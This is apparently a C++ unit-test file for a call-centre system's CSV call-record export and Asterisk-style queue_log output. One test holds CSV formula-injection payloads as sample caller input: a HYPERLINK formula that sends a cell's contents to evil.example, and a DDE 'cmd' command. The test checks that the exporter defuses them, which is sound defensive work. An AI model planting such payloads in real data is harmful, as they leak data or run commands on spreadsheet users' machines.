#include "store/call_exports.h"

#include <string>
#include <vector>

#include <gtest/gtest.h>

namespace markaz::store {
namespace {

using namespace std::chrono_literals;

constexpr const char* kHeader =
    "call,started,ended,caller,dialled,ivr_path,digits,queues,joined,wait_s,position,"
    "agents_offered,agent,talk_s,hold_s,wrap_s,disposition,hangup_side,hangup_cause,"
    "recording,transfers\r\n";

// 2026-11-23T08:15:30Z
constexpr long long kMorning = 1'795'421'730;

WallTime utc(long long epoch_seconds, Duration extra = 0ms) {
    return WallTime{std::chrono::seconds{epoch_seconds} + extra};
}

/// An answered call with every field set.
CallRecord answered_call() {
    CallRecord r;
    r.id = "c1";
    r.started = utc(kMorning, 400ms);
    r.ended = utc(kMorning + 200);
    r.caller = "09121234567";
    r.dialled = "100";
    r.ivr_path = {"main", "menu", "sales"};
    r.digits = "1";
    r.variables = {{"lang", "fa"}};
    r.queues = {"sales", "vip"};
    r.joined = utc(kMorning + 10);
    r.wait = 36'900ms;
    r.position = 2;
    r.agents_offered = {"a1001", "a1002"};
    r.agent = "a1002";
    r.talk = 125'999ms;
    r.hold = 30s;
    r.wrap = 15'500ms;
    r.disposition = Disposition::Answered;
    r.hangup_side = "caller";
    r.hangup_cause = "caller hung up";
    r.recording = "/var/lib/markaz/recordings/c1.wav";
    r.transfers = {Transfer{"a1001", "sales", "vip", utc(kMorning + 60), 40s, 0ms},
                   Transfer{"a1002", "vip", "vip", utc(kMorning + 90), 20s, 0ms, "a1003"}};
    return r;
}

/// The CSV's rows after the header, split at CRLF (quoted line breaks inside fields are LF).
std::vector<std::string> rows_of(const std::string& csv) {
    std::vector<std::string> rows;
    std::size_t start = 0;
    for (std::size_t end; (end = csv.find("\r\n", start)) != std::string::npos; start = end + 2) {
        rows.push_back(csv.substr(start, end - start));
    }
    EXPECT_EQ(start, csv.size()) << "the CSV does not end with CRLF: " << csv;
    return rows;
}

TEST(CallRecordsCsv, NoRecordsIsTheHeaderAlone) {
    EXPECT_EQ(call_records_csv({}), kHeader);
}

TEST(CallRecordsCsv, OneRowPerRecordWithEveryField) {
    const std::string csv = call_records_csv({answered_call()});
    ASSERT_TRUE(csv.starts_with(kHeader)) << csv;
    EXPECT_EQ(
        csv.substr(std::string(kHeader).size()),
        "c1,2026-11-23T08:15:30Z,2026-11-23T08:18:50Z,09121234567,100,main>menu>sales,1,"
        "sales vip,2026-11-23T08:15:40Z,36,2,a1001 a1002,a1002,125,30,15,answered,caller,"
        "caller hung up,/var/lib/markaz/recordings/c1.wav,a1001@sales>vip a1002@vip>a1003@vip\r\n");
}

TEST(CallRecordsCsv, EmptyOptionalsAreEmptyFields) {
    CallRecord r;
    r.id = "c9";
    r.started = utc(kMorning);
    r.ended = utc(kMorning + 4);
    r.caller = "021555";
    r.disposition = Disposition::Ivr;
    auto rows = rows_of(call_records_csv({r}));
    ASSERT_EQ(rows.size(), 2u);
    // joined, wait_s, position, wrap_s empty; talk and hold are zero, not empty.
    EXPECT_EQ(rows[1], "c9,2026-11-23T08:15:30Z,2026-11-23T08:15:34Z,021555,,,,,,,,,,0,0,,ivr,,,,");
}

TEST(CallRecordsCsv, ZeroIsNotEmpty) {
    CallRecord r = answered_call();
    r.wait = 0ms;
    r.position = 0;
    r.wrap = 999ms;  // under a second: 0 whole seconds
    auto rows = rows_of(call_records_csv({r}));
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_NE(rows[1].find(",2026-11-23T08:15:40Z,0,0,a1001 a1002,"), std::string::npos) << rows[1];
    EXPECT_NE(rows[1].find(",125,30,0,answered,"), std::string::npos) << rows[1];
}

TEST(CallRecordsCsv, ACellAFormulaCouldStartWithIsTextInASpreadsheet) {
    // The caller chose its name: opened in a spreadsheet, the export must not run it.
    CallRecord r = answered_call();
    r.caller = "=HYPERLINK(\"http://evil.example/\"&A1,\"x\")";
    r.hangup_cause = "@SUM(1+1)";
    r.dialled = "-2+3+cmd|' /C calc'!A0";
    r.digits = "\t=1";
    r.agent = "+98912";  // a number with its sign stays as it is
    r.ivr_path = {"-5"};
    const std::string csv = call_records_csv({r});
    EXPECT_NE(csv.find(",\"'=HYPERLINK(\"\"http://evil.example/\"\"&A1,\"\"x\"\")\","),
              std::string::npos)
        << csv;
    EXPECT_NE(csv.find(",'@SUM(1+1),"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",'-2+3+cmd|' /C calc'!A0,"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",'\t=1,"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",+98912,"), std::string::npos) << csv;
    EXPECT_NE(csv.find(",-5,"), std::string::npos) << csv;
}

TEST(CallRecordsCsv, FieldsWithACommaAQuoteOrALineBreakAreQuoted) {
    CallRecord r = answered_call();
    r.caller = "Smith, John";
    r.hangup_cause = "said \"bye\"";
    r.digits = "12\n34";
    r.recording = "a\rb";
    r.agent = "plain";
    const std::string csv = call_records_csv({r});
    EXPECT_NE(csv.find(",\"Smith, John\","), std::string::npos) << csv;
    EXPECT_NE(csv.find(",\"said \"\"bye\"\"\","), std::string::npos) << csv;
    EXPECT_NE(csv.find(",\"12\n34\","), std::string::npos) << csv;
    EXPECT_NE(csv.find(",\"a\rb\","), std::string::npos) << csv;
    EXPECT_NE(csv.find(",plain,"), std::string::npos) << "a plain field is not quoted: " << csv;
    EXPECT_EQ(csv.find("\"plain\""), std::string::npos) << csv;
}

TEST(CallRecordsCsv, ListItemsWithCommasStayInOneField) {
    CallRecord r = answered_call();
    r.queues = {"sales,north", "vip"};
    const std::string csv = call_records_csv({r});
    EXPECT_NE(csv.find(",\"sales,north vip\","), std::string::npos) << csv;
}

TEST(CallRecordsCsv, RowsFollowTheRecordsOrderAndNameTheDisposition) {
    CallRecord a = answered_call();
    CallRecord b = answered_call();
    b.id = "c2";
    b.disposition = Disposition::TimedOut;
    CallRecord c = answered_call();
    c.id = "c3";
    c.disposition = Disposition::Abandoned;
    auto rows = rows_of(call_records_csv({a, b, c}));
    ASSERT_EQ(rows.size(), 4u);
    EXPECT_TRUE(rows[1].starts_with("c1,")) << rows[1];
    EXPECT_TRUE(rows[2].starts_with("c2,")) << rows[2];
    EXPECT_NE(rows[2].find(",timed-out,"), std::string::npos) << rows[2];
    EXPECT_TRUE(rows[3].starts_with("c3,")) << rows[3];
    EXPECT_NE(rows[3].find(",abandoned,"), std::string::npos) << rows[3];
}

TEST(CallRecordsCsv, TimesAreUtcWholeSeconds) {
    CallRecord r = answered_call();
    r.started = WallTime{0ms};
    r.ended = utc(kMorning, 999ms);
    auto rows = rows_of(call_records_csv({r}));
    ASSERT_EQ(rows.size(), 2u);
    EXPECT_TRUE(rows[1].starts_with("c1,1970-01-01T00:00:00Z,2026-11-23T08:15:30Z,")) << rows[1];
}

// ---- queue_log ----

const CallId kCall{"c1"};
const QueueId kSales{"sales"};
const AgentId kA1{"a1001"};
const AgentId kA2{"a1002"};

acd::Event at(long long epoch_seconds, acd::EventBody body, Duration extra = 0ms) {
    return acd::Event{utc(epoch_seconds, extra), std::move(body)};
}

std::vector<std::string> lines_of(const std::string& text) {
    std::vector<std::string> lines;
    std::size_t start = 0;
    for (std::size_t end; (end = text.find('\n', start)) != std::string::npos; start = end + 1) {
        lines.push_back(text.substr(start, end - start));
    }
    EXPECT_EQ(start, text.size()) << "the last line has no newline: " << text;
    return lines;
}

acd::CallEnqueued enqueued(const CallId& call, int position, std::string caller = "0912") {
    return acd::CallEnqueued{call, kSales, 0, position, std::move(caller)};
}
acd::CallOffered offered(const CallId& call, const AgentId& agent) {
    return acd::CallOffered{call, kSales, agent, "ext", 1, false, ""};
}

TEST(QueueLog, NoEventsNoLines) {
    EXPECT_EQ(queue_log({}), "");
}

TEST(QueueLog, AnAnswerWhoseOfferIsNotInTheWindowHasNoRingTime) {
    // An export from midnight: the offer at 23:59:58 is not among the events.
    const std::vector<acd::Event> events{
        acd::Event{WallTime{std::chrono::seconds{1'795'392'003}},
                   acd::CallAnswered{CallId{"c1"}, QueueId{"sales"}, AgentId{"a1"},
                                     std::chrono::seconds{20}, 1, false}}};
    EXPECT_EQ(queue_log(events), "1795392003|c1|sales|Agent/a1|CONNECT|20||0\n");
}

TEST(QueueLog, AnAnsweredCallFromLoginToCompletion) {
    const std::vector<acd::Event> events{
        at(1000, acd::AgentLoggedIn{kA1, "1001", {kSales}, ""}),
        at(1001, acd::AgentLoggedIn{kA2, "1002", {kSales}, ""}),
        at(1010, enqueued(kCall, 2, "09121234567"), 250ms),
        at(1015, offered(kCall, kA1)),
        at(1030, acd::OfferEnded{kCall, kSales, kA1, acd::OfferEnd::NoAnswer, 15'250ms}),
        at(1040, offered(kCall, kA2)),
        at(1046, acd::CallAnswered{kCall, kSales, kA2, 36'900ms, 1, false}, 700ms),
        at(1200, acd::CallCompleted{kCall, kSales, kA2, 120s, 30s, acd::Party::Caller, false}),
    };
    EXPECT_EQ(queue_log(events),
              "1000|NONE|NONE|Agent/a1001|AGENTLOGIN|SIP/1001\n"
              "1001|NONE|NONE|Agent/a1002|AGENTLOGIN|SIP/1002\n"
              "1010|c1|sales|NONE|ENTERQUEUE||09121234567|2\n"
              "1030|c1|sales|Agent/a1001|RINGNOANSWER|15250\n"
              // wait 36 s, no bridged channel, rang 6 s since the second offer
              "1046|c1|sales|Agent/a1002|CONNECT|36||6\n"
              // wait, talk + hold, the position at joining
              "1200|c1|sales|Agent/a1002|COMPLETECALLER|36|150|2\n");
}

TEST(QueueLog, TheAgentHangingUpIsCompleteAgent) {
    const std::vector<acd::Event> events{
        at(10, enqueued(kCall, 4)),
        at(11, offered(kCall, kA1)),
        at(14, acd::CallAnswered{kCall, kSales, kA1, 4s, 1, false}),
        at(74, acd::CallCompleted{kCall, kSales, kA1, 59'999ms, 0ms, acd::Party::Agent, false}),
    };
    auto lines = lines_of(queue_log(events));
    ASSERT_EQ(lines.size(), 3u);
    EXPECT_EQ(lines[1], "14|c1|sales|Agent/a1001|CONNECT|4||3");
    EXPECT_EQ(lines[2], "74|c1|sales|Agent/a1001|COMPLETEAGENT|4|59|4");
}

TEST(QueueLog, ABlindTransferToAQueueIsWrittenAsAsteriskWritesIt) {
    const QueueId support{"support"};
    const std::vector<acd::Event> events{
        at(10, enqueued(kCall, 3)),
        at(14, acd::CallAnswered{kCall, kSales, kA1, 4s, 1, false}),
        at(80, acd::CallTransferred{kCall, kSales, kA1, support, 56s, 10s, "a1001"}),
        at(80, acd::CallEnqueued{kCall, support, 0, 1, "0912"}),
        at(95, acd::CallAnswered{kCall, support, kA2, 15s, 1, false}),
        at(155, acd::CallCompleted{kCall, support, kA2, 60s, 0ms, acd::Party::Caller, false}),
    };
    auto lines = lines_of(queue_log(events));
    ASSERT_EQ(lines.size(), 6u) << queue_log(events);
    // the target, its context, the wait, talk + hold, the position at joining sales
    EXPECT_EQ(lines[2], "80|c1|sales|Agent/a1001|BLINDTRANSFER|support|queue|4|66|3");
    EXPECT_EQ(lines[3], "80|c1|support|NONE|ENTERQUEUE||0912|1");
    EXPECT_EQ(lines[5], "155|c1|support|Agent/a1002|COMPLETECALLER|15|60|1");
}

TEST(QueueLog, AnAttendedTransferNamesTheColleagueAndTheirConnectFollows) {
    const std::vector<acd::Event> events{
        at(10, enqueued(kCall, 2)),
        at(14, acd::CallAnswered{kCall, kSales, kA1, 4s, 1, false}),
        at(80, acd::CallTransferred{kCall, kSales, kA1, kSales, 50s, 16s, "a1001", kA2, true}),
        at(80, acd::CallEnqueued{kCall, kSales, 0, 1, "0912"}),
        at(80, acd::CallAnswered{kCall, kSales, kA2, 0s, 1, false}),
        at(140, acd::CallCompleted{kCall, kSales, kA2, 60s, 0ms, acd::Party::Caller, false}),
    };
    auto lines = lines_of(queue_log(events));
    ASSERT_EQ(lines.size(), 6u) << queue_log(events);
    EXPECT_EQ(lines[2], "80|c1|sales|Agent/a1001|ATTENDEDTRANSFER|BRIDGE|Agent/a1002|4|66|2");
    EXPECT_EQ(lines[4], "80|c1|sales|Agent/a1002|CONNECT|0||0");
}

TEST(QueueLog, RingNoAnswerForEveryUnansweredRingButNotForOffersThatWereWithdrawn) {
    std::vector<acd::Event> events{at(1, enqueued(kCall, 1))};
    int t = 2;
    for (acd::OfferEnd reason :
         {acd::OfferEnd::NoAnswer, acd::OfferEnd::Rejected, acd::OfferEnd::Busy,
          acd::OfferEnd::Unreachable, acd::OfferEnd::AnsweredElsewhere, acd::OfferEnd::CallerGone,
          acd::OfferEnd::Withdrawn}) {
        events.push_back(at(t, offered(kCall, kA1)));
        events.push_back(at(t + 1, acd::OfferEnded{kCall, kSales, kA1, reason, 1'000ms * t}));
        t += 2;
    }
    auto lines = lines_of(queue_log(events));
    ASSERT_EQ(lines.size(), 5u) << queue_log(events);
    EXPECT_EQ(lines[1], "3|c1|sales|Agent/a1001|RINGNOANSWER|2000");
    EXPECT_EQ(lines[2], "5|c1|sales|Agent/a1001|RINGNOANSWER|4000");
    EXPECT_EQ(lines[3], "7|c1|sales|Agent/a1001|RINGNOANSWER|6000");
    EXPECT_EQ(lines[4], "9|c1|sales|Agent/a1001|RINGNOANSWER|8000");
}

TEST(QueueLog, AbandonGivesThePositionTheOriginalPositionAndTheWait) {
    const std::vector<acd::Event> events{
        at(100, enqueued(kCall, 3)),
        at(145, acd::CallAbandoned{kCall, kSales, 45'800ms, 1, false}),
    };
    EXPECT_EQ(queue_log(events),
              "100|c1|sales|NONE|ENTERQUEUE||0912|3\n"
              "145|c1|sales|NONE|ABANDON|1|3|45\n");
}

TEST(QueueLog, TimeoutsByMaxWaitAndByAnEmptyQueue) {
    const CallId other{"c2"};
    const std::vector<acd::Event> events{
        at(100, enqueued(kCall, 4)),
        at(101, enqueued(other, 5)),
        at(400, acd::CallTimedOut{kCall, kSales, 300s, 2, acd::TimeoutReason::MaxWait, {}}),
        at(401, acd::CallTimedOut{other, kSales, 300s, 3, acd::TimeoutReason::QueueEmpty, {}}),
    };
    auto lines = lines_of(queue_log(events));
    ASSERT_EQ(lines.size(), 4u);
    EXPECT_EQ(lines[2], "400|c1|sales|NONE|EXITWITHTIMEOUT|2|4|300");
    EXPECT_EQ(lines[3], "401|c2|sales|NONE|EXITEMPTY|3|5|300");
}

TEST(QueueLog, BlockedCallsAreFullOrJoinEmpty) {
    const std::vector<acd::Event> events{
        at(7, acd::CallBlocked{kCall, kSales, acd::BlockReason::QueueFull, "0912"}),
        at(8, acd::CallBlocked{CallId{"c2"}, kSales, acd::BlockReason::NoAgents, "0913"}),
    };
    EXPECT_EQ(queue_log(events),
              "7|c1|sales|NONE|FULL\n"
              "8|c2|sales|NONE|JOINEMPTY\n");
}

TEST(QueueLog, PauseWithItsReasonUnpauseAndLogoff) {
    using acd::AgentState;
    const std::vector<acd::Event> events{
        at(10,
           acd::AgentStateChanged{kA1, AgentState::Available, AgentState::Paused, "lunch", 5s, ""}),
        at(20, acd::AgentStateChanged{kA1, AgentState::Paused, AgentState::Available, "", 10s, ""}),
        at(30, acd::AgentLoggedOut{kA1, "1001", 3600s, ""}),
    };
    EXPECT_EQ(queue_log(events),
              "10|NONE|NONE|Agent/a1001|PAUSE|lunch\n"
              "20|NONE|NONE|Agent/a1001|UNPAUSE|\n"
              "30|NONE|NONE|Agent/a1001|AGENTLOGOFF|SIP/1001|3600\n");
}

TEST(QueueLog, OtherStateChangesAreNotPauses) {
    using acd::AgentState;
    const std::vector<acd::Event> events{
        at(1,
           acd::AgentStateChanged{kA1, AgentState::LoggedOut, AgentState::Available, "", 0s, ""}),
        at(2, acd::AgentStateChanged{kA1, AgentState::Available, AgentState::Ringing, "", 1s, ""}),
        at(3, acd::AgentStateChanged{kA1, AgentState::Ringing, AgentState::OnCall, "", 1s, ""}),
        at(4, acd::AgentStateChanged{kA1, AgentState::OnCall, AgentState::WrapUp, "", 1s, ""}),
        at(5, acd::AgentStateChanged{kA1, AgentState::WrapUp, AgentState::NotReady, "", 1s, ""}),
        // Logging out while paused is AGENTLOGOFF (from AgentLoggedOut), not UNPAUSE.
        at(6, acd::AgentStateChanged{kA1, AgentState::Paused, AgentState::LoggedOut, "", 1s, ""}),
    };
    EXPECT_EQ(queue_log(events), "");
}

TEST(QueueLog, EventsWithNoVerbAreLeftOut) {
    const std::vector<acd::Event> events{
        at(1, offered(kCall, kA1)),
        at(2, acd::CallRemoved{kCall, kSales, 1s, 1, false, "sup"}),
        at(3, acd::CallPriorityChanged{kCall, kSales, 0, 5, "sup"}),
        at(4, acd::CallHeld{kCall, kA1}),
        at(5, acd::CallResumed{kCall, kA1, 3s}),
        at(6, acd::WrapUpCompleted{kCall, kSales, kA1, 10s}),
        at(7, acd::CallbackOffered{kCall, kSales, 60s}),
        at(8, acd::CallbackRequested{kCall, kSales, "0912", 60s, 2, false}),
        at(9, acd::DialCallback{kCall, kSales, "0912", kA1, 1}),
        at(10, acd::CallbackAttemptFailed{kCall, kSales, 1, acd::DialOutcome::Busy, true}),
        at(11, acd::CallbackFailed{kCall, kSales, 3}),
    };
    EXPECT_EQ(queue_log(events), "");
}

TEST(QueueLog, EpochSecondsAreTruncated) {
    const std::vector<acd::Event> events{
        at(kMorning, acd::AgentLoggedIn{kA1, "1001", {}, ""}, 999ms),
    };
    EXPECT_EQ(queue_log(events), "1795421730|NONE|NONE|Agent/a1001|AGENTLOGIN|SIP/1001\n");
}

TEST(QueueLog, CallsAreTrackedApart) {
    const CallId other{"c2"};
    const std::vector<acd::Event> events{
        at(100, enqueued(kCall, 1)),
        at(101, enqueued(other, 2)),
        at(102, offered(kCall, kA1)),
        at(103, offered(other, kA2)),
        at(110, acd::CallAnswered{other, kSales, kA2, 9s, 1, false}),
        at(120, acd::CallAnswered{kCall, kSales, kA1, 20s, 1, false}),
        at(130, acd::CallCompleted{other, kSales, kA2, 20s, 0s, acd::Party::Caller, false}),
        at(140, acd::CallCompleted{kCall, kSales, kA1, 20s, 0s, acd::Party::Caller, false}),
    };
    auto lines = lines_of(queue_log(events));
    ASSERT_EQ(lines.size(), 6u);
    EXPECT_EQ(lines[2], "110|c2|sales|Agent/a1002|CONNECT|9||7");
    EXPECT_EQ(lines[3], "120|c1|sales|Agent/a1001|CONNECT|20||18");
    EXPECT_EQ(lines[4], "130|c2|sales|Agent/a1002|COMPLETECALLER|9|20|2");
    EXPECT_EQ(lines[5], "140|c1|sales|Agent/a1001|COMPLETECALLER|20|20|1");
}

}  // namespace
}  // namespace markaz::store
